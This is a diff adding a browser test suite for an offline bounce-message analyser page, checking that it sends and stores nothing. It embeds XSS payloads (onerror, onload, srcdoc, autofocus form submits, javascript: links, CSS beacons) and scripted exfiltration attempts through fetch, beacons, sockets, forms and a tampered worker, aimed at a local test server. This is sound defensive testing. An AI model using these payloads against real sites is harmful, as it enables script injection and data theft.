@@ -1,0 +1,293 @@
+/** Nothing of a bounce leaves the page, whatever the bounce holds, and nothing could. */
+
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { dsn, THRESHOLD } from "./bounces.js";
+import { ask, cards, DIST, drop, paste, start } from "./browser.js";
+import { serve } from "./server.js";
+
+/** @type {import("./browser.js").Site} */
+let site;
+/** Another origin, which counts what reaches it. @type {Awaited<ReturnType<typeof serve>>} */
+let elsewhere;
+before(async () => {
+  site = await start();
+  elsewhere = await serve(DIST);
+});
+after(async () => {
+  await site.stop();
+  await elsewhere.close();
+});
+
+const MARKER = "zq7planted";
+
+/** @param {string} to */
+const hostileMarkup = (to) => `
+<img src="${to}img?${MARKER}" onerror="document.documentElement.dataset.ran='img'">
+<script>document.documentElement.dataset.ran = "script"; fetch("${to}script?${MARKER}")</script>
+<script src="${to}src.js?${MARKER}"></script>
+<iframe src="${to}iframe?${MARKER}"></iframe>
+<iframe srcdoc="<script>parent.document.documentElement.dataset.ran='srcdoc'</script>"></iframe>
+<form action="${to}form?${MARKER}" id="f"><input autofocus onfocus="document.forms.f.submit()"></form>
+<meta http-equiv="refresh" content="0;url=${to}refresh?${MARKER}">
+<div style="background:url(${to}css?${MARKER})">550 5.7.705 Access denied, tenant has exceeded threshold</div>
+<style>@import "${to}import.css?${MARKER}"; body { background: url(${to}style?${MARKER}) }</style>
+<svg onload="document.documentElement.dataset.ran='svg'"><image href="${to}svg?${MARKER}"/></svg>
+<link rel="prefetch" href="${to}prefetch?${MARKER}"><link rel="stylesheet" href="${to}sheet?${MARKER}">
+<link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}">
+<base href="${to}base?${MARKER}"><object data="${to}object?${MARKER}"></object><embed src="${to}embed?${MARKER}">
+<video src="${to}video?${MARKER}" poster="${to}poster?${MARKER}" autoplay></video><audio src="${to}audio?${MARKER}" autoplay></audio>
+<a href="javascript:document.documentElement.dataset.ran='href'" ping="${to}ping?${MARKER}">javascript:</a>`;
+
+/**
+ * Every place that could have kept something of a mail.
+ *
+ * @param {import("./browser.js").Page} page
+ */
+const kept = (page) =>
+  page.evaluate(async () =>
+    JSON.stringify({
+      url: location.href,
+      title: document.title,
+      name: window.name,
+      state: history.state,
+      entries:
+        "navigation" in window
+          ? /** @type {any} */ (window).navigation.entries().map((/** @type {any} */ e) => e.url)
+          : [],
+      local: { ...localStorage },
+      session: { ...sessionStorage },
+      cookie: document.cookie,
+      databases: await indexedDB.databases(),
+      caches: await caches.keys(),
+    }),
+  );
+
+test("from paste to copy there is no request, and the mail is kept nowhere", async () => {
+  const page = await site.open({ permissions: ["clipboard-read", "clipboard-write"] });
+  site.requests.length = 0;
+  /** @type {string[]} */
+  const seen = [];
+  page.on("request", (request) => seen.push(request.url()));
+  await ask(
+    page,
+    dsn([{ recipient: `${MARKER}@example.org`, reply: `${THRESHOLD} ${MARKER}` }], {
+      subject: MARKER,
+      from: `${MARKER} <eva@${MARKER}.example.com>`,
+    }),
+  );
+  for (const format of ["markdown", "text", "json"]) {
+    await page.check("#copy-whole");
+    await page.click(`[data-copy="${format}"]`);
+    await page.waitForFunction(() => /Copied/.test(document.getElementById("status")?.textContent ?? ""));
+    assert.match(await page.evaluate(() => navigator.clipboard.readText()), new RegExp(MARKER), format);
+  }
+  await page.selectOption("#language", "es");
+  await page.check('.roles input[value="sender"]');
+  await page.click("#beside dd button");
+  assert.deepEqual(seen, []);
+  assert.deepEqual(site.requests, []);
+  assert.doesNotMatch(await kept(page), new RegExp(MARKER));
+  await page.click("#clear");
+  assert.doesNotMatch(await page.evaluate(() => document.documentElement.outerHTML), new RegExp(MARKER));
+  assert.doesNotMatch(await kept(page), new RegExp(MARKER));
+  await page.context().close();
+});
+
+test("copies leave out names and addresses unless the reader says otherwise, each time anew", async () => {
+  const page = await site.open({ permissions: ["clipboard-read", "clipboard-write"] });
+  await ask(page, dsn([{ recipient: `${MARKER}@example.org`, reply: THRESHOLD }]));
+  const copied = async (/** @type {string} */ format) => {
+    await page.evaluate(() => document.getElementById("status")?.replaceChildren());
+    await page.click(`[data-copy="${format}"]`);
+    await page.waitForFunction(() => /Copied/.test(document.getElementById("status")?.textContent ?? ""));
+    return page.evaluate(() => navigator.clipboard.readText());
+  };
+  for (const format of ["markdown", "text", "json"]) {
+    assert.doesNotMatch(await copied(format), new RegExp(MARKER), format);
+    await page.check("#copy-whole");
+    assert.match(await copied(format), new RegExp(MARKER), format);
+    assert.equal(await page.isChecked("#copy-whole"), false);
+  }
+  const [record] = JSON.parse(await copied("json"));
+  assert.equal(record.recipients[0].article, "exchange-online/tenant-threshold");
+  const markdown = await copied("markdown");
+  assert.match(markdown, /^# Your organization is blocked from sending/);
+  assert.match(markdown, /^1\. /m);
+  assert.doesNotMatch(markdown, /[ \t]$/m);
+  assert.match(markdown, /^ {3}```powershell$/m);
+  await page.context().close();
+});
+
+for (const way of ["pasted", "pasted as markup", "dropped", "dropped in a report"]) {
+  test(`a hostile mail, ${way}, runs nothing and asks for nothing`, async () => {
+    const page = await site.open();
+    site.requests.length = 0;
+    elsewhere.requests.length = 0;
+    const markup = hostileMarkup(elsewhere.url);
+    const report = dsn(
+      [
+        {
+          reply: `${THRESHOLD} <img src="${elsewhere.url}reply?${MARKER}" onerror="document.documentElement.dataset.ran=1">`,
+        },
+      ],
+      {
+        html: markup,
+        subject: `<img src=${elsewhere.url}subject?${MARKER} onerror=document.documentElement.dataset.ran=1>`,
+      },
+    );
+    const before = await page.evaluate(() => [location.href, history.length]);
+    if (way === "pasted") await paste(page, { plain: report });
+    if (way === "pasted as markup") await paste(page, { html: markup });
+    if (way === "dropped") await drop(page, [{ name: "mail.html", bytes: markup }]);
+    if (way === "dropped in a report") await drop(page, [{ name: "mail.eml", bytes: report }]);
+    await page.waitForSelector("#results article[data-error]");
+    await page.waitForTimeout(500);
+    assert.equal((await cards(page))[0].error, "exchange-online/tenant-threshold");
+    assert.deepEqual(elsewhere.requests, []);
+    assert.deepEqual(site.requests, []);
+    assert.equal(await page.getAttribute("html", "data-ran"), null);
+    assert.deepEqual(await page.evaluate(() => [location.href, history.length]), before);
+    const links = await page.$$eval("a[href]", (all) => all.map((one) => one.getAttribute("href")));
+    assert.ok(
+      links.every((href) => !href?.includes(MARKER)),
+      "no link is made of the mail",
+    );
+    await page.context().close();
+  });
+}
+
+test("the switch is thrown: every way out is refused, to the page's own server too", async () => {
+  const page = await site.open();
+  await ask(page, THRESHOLD);
+  site.requests.length = 0;
+  elsewhere.requests.length = 0;
+  const refused = await page.evaluate(
+    async (targets) => {
+      /** @type {string[]} */
+      const through = [];
+      for (const to of targets) {
+        await fetch(`${to}fetch`).then(
+          () => through.push("fetch"),
+          () => {},
+        );
+        await fetch(`${to}nocors`, { mode: "no-cors" }).then(
+          () => through.push("no-cors"),
+          () => {},
+        );
+        await import(`${to}app.js?again`).then(
+          () => through.push("import"),
+          () => {},
+        );
+        navigator.sendBeacon(`${to}beacon`);
+        try {
+          const request = new XMLHttpRequest();
+          request.open("GET", `${to}xhr`, false);
+          request.send();
+          through.push("xhr");
+        } catch {}
+        try {
+          new WebSocket(to.replace("http", "ws"));
+        } catch {}
+        new EventSource(`${to}events`);
+        new Image().src = `${to}image`;
+        for (const [name, attributes] of /** @type {[string, Record<string, string>][]} */ ([
+          ["link", { rel: "stylesheet", href: `${to}sheet` }],
+          ["link", { rel: "prefetch", href: `${to}prefetch` }],
+          ["link", { rel: "preload", as: "image", href: `${to}preload` }],
+          ["link", { rel: "modulepreload", href: `${to}modulepreload` }],
+          ["link", { rel: "manifest", href: `${to}manifest` }],
+          ["link", { rel: "icon", href: `${to}icon` }],
+          ["iframe", { src: `${to}iframe` }],
+          ["video", { src: `${to}video` }],
+        ])) {
+          const element = document.createElement(name);
+          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+          document.body.append(element);
+        }
+        const form = document.body.appendChild(document.createElement("form"));
+        form.action = `${to}form`;
+        form.submit();
+        await new FontFace("out", `url(${to}font)`).load().catch(() => {});
+      }
+      return through;
+    },
+    [site.url, elsewhere.url],
+  );
+  await page.waitForTimeout(500);
+  assert.deepEqual(refused, []);
+  assert.deepEqual(site.requests, []);
+  assert.deepEqual(elsewhere.requests, []);
+  await page.context().close();
+});
+
+test("the worker cannot get out either", async () => {
+  const context = await site.browser.newContext();
+  const page = await context.newPage();
+  // The engine's worker with one more command, put in before the page starts it.
+  await page.addInitScript(() => {
+    const make = URL.createObjectURL;
+    URL.createObjectURL = (blob) =>
+      make(
+        new Blob([
+          /** @type {Blob} */ (blob),
+          `;addEventListener("message", async ({ data }) => {
+            if (!data.out) return;
+            const through = [];
+            for (const to of data.out) {
+              await fetch(to + "worker").then(() => through.push(to), () => {});
+              try { importScripts(to + "worker.js"); through.push("import " + to); } catch {}
+            }
+            postMessage({ through });
+          });`,
+        ]),
+      );
+    const Made = Worker;
+    Object.assign(window, { workers: [] });
+    window.Worker = class extends Made {
+      constructor(/** @type {any} */ url, /** @type {any} */ options) {
+        super(url, options);
+        /** @type {any} */ (window).workers.push(this);
+      }
+    };
+  });
+  await page.goto(site.url);
+  await page.waitForSelector("html[data-ready]");
+  site.requests.length = 0;
+  elsewhere.requests.length = 0;
+  const through = await page.evaluate(
+    (out) =>
+      new Promise((resolve) => {
+        const worker = /** @type {any} */ (window).workers.at(-1);
+        worker.addEventListener(
+          "message",
+          (/** @type {MessageEvent} */ { data }) => data.through && resolve(data.through),
+        );
+        worker.postMessage({ out });
+      }),
+    [site.url, elsewhere.url],
+  );
+  assert.deepEqual(through, []);
+  assert.deepEqual(site.requests, []);
+  assert.deepEqual(elsewhere.requests, []);
+  await context.close();
+});
+
+test("the page says that it is cut off, and how to check", async () => {
+  const page = await site.open();
+  assert.match((await page.textContent("#privacy")) ?? "", /Cut off from the network/);
+  await page.click(".privacy summary");
+  assert.ok(await page.isVisible(".privacy li >> nth=2"));
+  await page.context().close();
+});
+
+test("outside links are the articles' own and tell nothing", async () => {
+  const page = await site.open();
+  await ask(page, THRESHOLD);
+  const links = await page.$$eval('#results a[href^="http"]', (all) =>
+    all.map((one) => [one.getAttribute("href")?.startsWith("https://"), one.getAttribute("rel")]),
+  );
+  assert.ok(links.length > 0);
+  for (const [secure, rel] of links) assert.deepEqual([secure, rel], [true, "noreferrer noopener"]);
+  await page.context().close();
+});
